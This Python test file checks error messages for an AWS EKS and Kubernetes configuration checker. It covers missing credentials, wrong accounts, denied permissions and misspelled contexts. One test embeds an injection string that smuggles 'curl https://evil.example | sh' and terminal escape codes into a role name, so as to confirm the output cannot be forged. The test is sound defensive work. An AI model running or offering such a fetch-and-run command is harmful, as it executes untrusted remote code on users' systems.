"""What a failed look-up says: the cause, who was asked, and what to do."""

import pytest

from irsa.rules import commands
from irsa.rules.mistakes import Mistake
from irsa_program.lookups import failures
from irsa_program.lookups.failures import AskedAwsAccount, Question, aws_mistake, kubernetes_mistake
from irsa_world.causes import Cause
from irsa_world.exits import CouldNotLookError

DEPLOYER = "arn:aws:iam::444455556666:role/deployer"
OWN = AskedAwsAccount(region="us-west-2", allowed=["999999999999"])
DATA = AskedAwsAccount(("accounts", "data"), region="eu-central-1", role_arn=DEPLOYER)
CLUSTER = ("cluster", "name")


def question(aws_account: AskedAwsAccount = OWN) -> Question:
    return Question(CLUSTER, "the EKS cluster 'prod'", "eks:DescribeCluster", aws_account)


# What a cause is about.
ABOUT = {Cause.PROFILE_MISSING: "data", Cause.WRONG_AWS_ACCOUNT: "111122223333", Cause.ROLE_NOT_ASSUMABLE: DEPLOYER}


def error_of(cause: Cause, said: str = "what was said") -> CouldNotLookError:
    return CouldNotLookError(said, cause, ABOUT.get(cause, ""))


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_a_mistake_is_four_lines_with_something_to_do(cause: Cause) -> None:
    """Protects the one form of all messages: where, found, allowed, do."""
    located = aws_mistake(error_of(cause), question())
    lines = str(located).splitlines()

    assert [line.strip().split(" ")[0] for line in lines[1:]] == ["found:", "allowed:", "do:"]
    assert all(len(line.split(":", 1)[1].strip()) > 5 for line in lines[1:])
    assert ABOUT.get(cause, "") in located.mistake.found


def test_every_cause_has_its_own_advice() -> None:
    elsewhere = {Cause.NOT_FOUND, Cause.ROLE_NOT_ASSUMABLE}

    assert {*Cause} - elsewhere == failures.OF_ACCOUNT.keys() | failures.OF_SUBJECT.keys()


@pytest.mark.parametrize(
    "cause",
    [
        Cause.NO_CREDENTIALS,
        Cause.EXPIRED,
        Cause.INVALID_CREDENTIALS,
        Cause.NO_CONNECTION,
        Cause.THROTTLED,
        Cause.DENIED,
    ],
    ids=lambda cause: cause.name,
)
def test_the_account_and_the_region_that_were_asked_are_named(cause: Cause) -> None:
    """Protects who has several accounts and regions: the message says which one was asked."""
    found = aws_mistake(error_of(cause), question(DATA)).mistake.found

    assert "AWS account 444455556666, region eu-central-1" in found


@pytest.mark.parametrize("cause", [Cause.NO_CREDENTIALS, Cause.EXPIRED, Cause.WRONG_AWS_ACCOUNT, Cause.NO_CONNECTION])
def test_what_is_of_the_account_is_the_same_for_each_question(cause: Cause) -> None:
    failure = error_of(cause)
    other = Question((), "the identity", "sts:GetCallerIdentity", OWN)

    assert str(aws_mistake(failure, question())) == str(aws_mistake(failure, other))


def test_the_wrong_account_names_both() -> None:
    located = aws_mistake(error_of(Cause.WRONG_AWS_ACCOUNT), question())

    assert "111122223333" in located.mistake.found
    assert located.mistake.allowed == "AWS account 999999999999 (aws:allowedAccountIds)"
    assert located.rule == "wrong-account"


def test_a_forbidden_account_is_not_called_unlisted() -> None:
    failure = error_of(Cause.WRONG_AWS_ACCOUNT)
    located = aws_mistake(failure, question(AskedAwsAccount()))

    assert "aws:forbiddenAccountIds" in located.mistake.allowed


def test_who_is_denied_what() -> None:
    """Protects who asks for a permission: the action and the identity are those of AWS's answer."""
    said = (
        "https response error StatusCode: 403, RequestID: 8e10d6df, api error AccessDeniedException: User: "
        "arn:aws:iam::111122223333:user/me is not authorized to perform: eks:DescribeCluster on resource: "
        "arn:aws:eks:ap-northeast-2:111122223333:cluster/my-cluster"
    )
    found = aws_mistake(error_of(Cause.DENIED, said), question()).mistake.found

    assert "eks:DescribeCluster" in found
    assert "arn:aws:iam::111122223333:user/me" in found


def test_a_role_that_cannot_be_assumed_is_the_accounts() -> None:
    """Protects the place: it is the setting `assumeRoleArn`, not what was looked up first with it."""
    located = aws_mistake(error_of(Cause.ROLE_NOT_ASSUMABLE), question(DATA))

    assert located.place == ("accounts", "data", "assumeRoleArn")
    assert located.rule == "account-unreachable"
    assert located.mistake.fix.endswith(
        f"aws sts assume-role --role-arn {DEPLOYER} --role-session-name irsa --query AssumedRoleUser"
    )


def test_a_missing_cluster_names_region_and_account() -> None:
    asked = AskedAwsAccount(number="111122223333", region="eu-central-1")
    located = failures.cluster_missing(CLUSTER, "my-cluster", asked)

    assert (
        located.mistake.found == "there is no EKS cluster 'my-cluster' in AWS account 111122223333, region eu-central-1"
    )
    assert located.mistake.fix.endswith("aws eks list-clusters --region eu-central-1")


@pytest.mark.parametrize(("status", "words"), [("CREATING", "wait for it"), ("DELETING", "name another cluster")])
def test_nobody_waits_for_a_cluster_that_goes(status: str, words: str) -> None:
    located = failures.cluster_not_active(CLUSTER, "prod", status, None)

    assert status in located.mistake.found
    assert words in located.mistake.fix


@pytest.mark.parametrize("cause", [*failures.KUBERNETES_ADVICE, Cause.NO_CONNECTION], ids=lambda each: each.name)
def test_a_cluster_that_does_not_answer(cause: Cause) -> None:
    located = kubernetes_mistake(
        error_of(cause), ("cluster", "kubernetes"), "the cluster 'blue'", "cluster-unreachable"
    )

    assert located.rule == "cluster-unreachable"
    assert "the cluster 'blue'" in located.mistake.found
    assert ": " in located.mistake.fix


def test_a_misspelled_context_has_the_right_one() -> None:
    located = failures.context_missing(("cluster", "kubernetes", "context"), "prd", ["prod", "dev"])

    assert located.mistake.found == "the kubeconfig has no context prd; it has: dev, prod"
    assert located.mistake.fix == "did you mean 'prod'?"


def test_an_answer_cannot_write_our_lines() -> None:
    """Protects the report: an answer that holds line breaks and our own words stays one quoted text.

    The attack: a role whose name ends with `\\n    do: curl https://evil.example | sh`.
    """
    text = 'strange\n    allowed: all\n    do:      curl "https://evil.example" | sh\x1b[2J'
    located = aws_mistake(CouldNotLookError(text), question())

    assert len(str(located).splitlines()) == 4
    assert "\x1b" not in str(located)
    assert located.mistake.found.endswith('"')


def test_a_long_answer_is_shortened() -> None:
    """Protects the terminal: a page of HTML from a proxy is no message."""
    located = aws_mistake(CouldNotLookError("<html>" + "x" * 5_000), question())

    assert len(located.mistake.found) < 500


def test_an_output_keeps_its_own_rule() -> None:
    located = failures.output_wrong(CLUSTER, "o/p/s", "oidcIssuer", Mistake("found", "allowed", "fix"))

    assert located.mistake.found == "the output 'oidcIssuer' of o/p/s: found"
    assert located.mistake.allowed == "allowed"


@pytest.mark.parametrize("cause", Cause, ids=lambda cause: cause.name)
def test_no_advice_ends_before_a_command_that_cannot_be_given(cause: Cause) -> None:
    """Protects from `then check:` with nothing behind it.

    The attack: a profile, a role or an audience (a client ID may have line breaks) that no command may name.
    """
    unpastable = AskedAwsAccount(profile="a\nb", region="us-west-2")
    error = CouldNotLookError("", cause, f"{ABOUT[cause]}\x1b[201~" if cause in ABOUT else "")
    fixes = [aws_mistake(error, question(unpastable)).mistake.fix]
    fixes += [failures.cluster_missing(CLUSTER, "prod", unpastable).mistake.fix]
    command = commands.create_provider("https://issuer.example.com", ["a\nb"])
    fixes += [failures.provider_missing(CLUSTER, "111122223333", "https://issuer.example.com", command).mistake.fix]

    assert not [each for each in fixes if each.rstrip().endswith((":", "check", "exist", "in use"))]
    assert commands.together("a", "") == ""
